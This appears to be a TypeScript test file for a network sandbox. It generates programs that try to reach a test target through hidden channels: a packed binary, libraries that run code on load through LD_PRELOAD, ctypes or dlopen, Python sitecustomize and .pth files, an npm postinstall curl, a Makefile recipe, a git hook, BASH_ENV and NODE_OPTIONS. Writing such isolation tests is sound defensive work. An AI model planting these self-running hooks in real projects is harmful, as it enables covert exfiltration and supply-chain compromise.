import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { carriedPrograms, type SinkProgram, type Target } from "./sink-program.ts";

const curl = ({ url }: Target) => `curl -s -m 5 ${url}`;
const connects = ({ address, port }: Target) =>
  `import socket\nsocket.create_connection(('${address}', ${port}), 5)\n`;

/** Connects without a library of Python or Node: as a program, or when it is loaded. */
const inC = ({ address, port }: Target, asLibrary: boolean) => `
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
${asLibrary ? "__attribute__((constructor)) static" : ""} int ${asLibrary ? "knock" : "main"}(void) {
  struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(${port}) };
  inet_pton(AF_INET, "${address}", &to.sin_addr);
  int tcp = socket(AF_INET, SOCK_STREAM, 0), udp = socket(AF_INET, SOCK_DGRAM, 0);
  sendto(udp, "secret", 6, 0, (struct sockaddr *)&to, sizeof to);
  connect(tcp, (struct sockaddr *)&to, sizeof to);
  close(tcp);
  return 0;
}`;

const inRust = ({ address, port }: Target) =>
  `fn main() { let _ = std::net::TcpStream::connect("${address}:${port}"); }`;

/** Compiles code of ours; nothing of it is run here. */
function compiled(program: string, args: readonly string[], ending: string, code: string): Buffer {
  const dir = mkdtempSync(join(tmpdir(), "airlock-compiled-"));
  try {
    const [source, made] = [join(dir, `knock.${ending}`), join(dir, "knock")];
    writeFileSync(source, code);
    execFileSync(program, [...args, "-o", made, source]);
    return readFileSync(made);
  } finally {
    rmSync(dir, { recursive: true });
  }
}

const compiledC = (target: Target, as: "static" | "shared") =>
  compiled(
    "cc",
    as === "static" ? ["-static", "-s"] : ["-shared", "-fPIC", "-s"],
    "c",
    inC(target, as === "shared"),
  );
const needsCc = { needs: ["cc"] };

/** Binaries and what runs by itself: F06, F07. */
export const carried: SinkProgram[] = carriedPrograms([
  [
    "F06 a static binary",
    "direct",
    (t) => ({ knock: compiledC(t, "static") }),
    ({ dir }) => `${dir}/knock`,
    needsCc,
  ],
  [
    "F06 a packed binary",
    "direct",
    (t) => ({ "data.bin": gzipSync(compiledC(t, "static")) }),
    ({ dir }) => `gunzip < ${dir}/data.bin > ${dir}/fine; chmod +x ${dir}/fine; ${dir}/fine`,
    needsCc,
  ],
  [
    "F06 a library that Python loads",
    "direct",
    (t) => ({
      "main.py": `import ctypes\nctypes.CDLL('${t.dir}/fine.so')`,
      "fine.so": compiledC(t, "shared"),
    }),
    ({ dir }) => `python3 ${dir}/main.py`,
    needsCc,
  ],
  [
    "F06 a library that Node loads",
    "direct",
    (t) => ({
      "main.cjs": `process.dlopen(module, '${t.dir}/fine.node')`,
      "fine.node": compiledC(t, "shared"),
    }),
    ({ dir }) => `node ${dir}/main.cjs`,
    needsCc,
  ],
  [
    "F06 a library before all others",
    "direct",
    (t) => ({ "fine.so": compiledC(t, "shared") }),
    ({ dir }) => `LD_PRELOAD=${dir}/fine.so /bin/true`,
    needsCc,
  ],
  [
    "F06 a binary of Rust",
    "direct",
    (t) => ({ knock: compiled("rustc", ["-C", "opt-level=0"], "rs", inRust(t)) }),
    ({ dir }) => `${dir}/knock`,
    { needs: ["rustc"] },
  ],
  [
    "F07 sitecustomize",
    "direct",
    (t) => ({ "sitecustomize.py": connects(t) }),
    ({ dir }) => `PYTHONPATH=${dir} python3 -c 'print(1)'`,
  ],
  [
    "F07 a .pth file",
    "direct",
    (t) => ({
      "make.py": `import os, site\nd = site.getusersitepackages()\nos.makedirs(d)\nopen(d + '/x.pth', 'w').write("import socket; socket.create_connection(('${t.address}', ${t.port}), 5)\\n")`,
    }),
    ({ dir }) =>
      `export PYTHONUSERBASE=${dir}/base; python3 ${dir}/make.py && python3 -c 'print(1)'`,
  ],
  [
    "F07 a module of a layer",
    "direct",
    (t) => ({ "main.py": "import innocent", "deps/innocent/__init__.py": connects(t) }),
    ({ dir }) => `PYTHONPATH=${dir}/deps python3 ${dir}/main.py`,
  ],
  [
    "F07 tests that are found by themselves",
    "direct",
    (t) => ({ "test_it.py": connects(t) }),
    ({ dir }) => `python3 -m unittest discover -s ${dir}`,
  ],
  [
    "F07 postinstall",
    "proxied",
    (t) => ({
      "package.json": JSON.stringify({
        ...{ name: "fine", version: "1.0.0" },
        scripts: { postinstall: curl(t) },
      }),
    }),
    ({ dir }) => `npm install --offline --prefix ${dir}`,
    { needs: ["npm"] },
  ],
  [
    "F07 a recipe of make",
    "proxied",
    (t) => ({ Makefile: `all:\n\t@${curl(t)}\n` }),
    ({ dir }) => `make -s -C ${dir}`,
    { needs: ["make"] },
  ],
  [
    "F07 a hook of git",
    "proxied",
    (t) => ({ hook: `#!/bin/sh\n${curl(t)}\n` }),
    ({ dir }) =>
      `git init -q ${dir}/r; cp ${dir}/hook ${dir}/r/.git/hooks/pre-commit; chmod +x ${dir}/r/.git/hooks/pre-commit; git -C ${dir}/r -c user.name=x -c user.email=x commit -q --allow-empty -m x`,
  ],
  [
    "F07 BASH_ENV",
    "proxied",
    (t) => ({ env: `${curl(t)}\n` }),
    ({ dir }) => `BASH_ENV=${dir}/env bash -c true`,
    { needs: ["bash"] },
  ],
  [
    "F07 an option of Node",
    "direct",
    (t) => ({ "x.cjs": `require('net').connect(${t.port}, '${t.address}')` }),
    ({ dir }) => `NODE_OPTIONS='--require ${dir}/x.cjs' node -e 0`,
  ],
]);
